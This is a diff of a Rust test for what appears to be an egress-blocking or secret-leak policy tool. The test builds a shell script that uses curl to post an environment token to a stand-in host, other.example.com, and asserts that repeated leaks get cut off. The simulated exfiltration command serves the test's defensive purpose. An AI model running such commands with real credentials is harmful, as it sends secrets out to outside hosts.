@@ -231,7 +231,8 @@ fn after_repeated_hits_nothing_leaves_any_more() {
     std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
     let value = secret(40);
     let post = |body: &str| format!("curl -sS -d '{body}' https://other.example.com/;");
-    let script = [post("clean"), post(&value), post("clean"), post(&value), post("clean")].concat();
+    let script =
+        [post("clean"), post(&value), post("clean"), post(&format!("again {value}")), post("clean")].concat();
     let args = ["--policy", "policy.toml", "--log", "run.log"];
     let run = stage.run(&args, &[("SOME_TOKEN", &value)], &["sh", "-c", &script]).exits_with(0);
     assert_eq!(stage.server.requests().len(), 2, "{run:#?}");
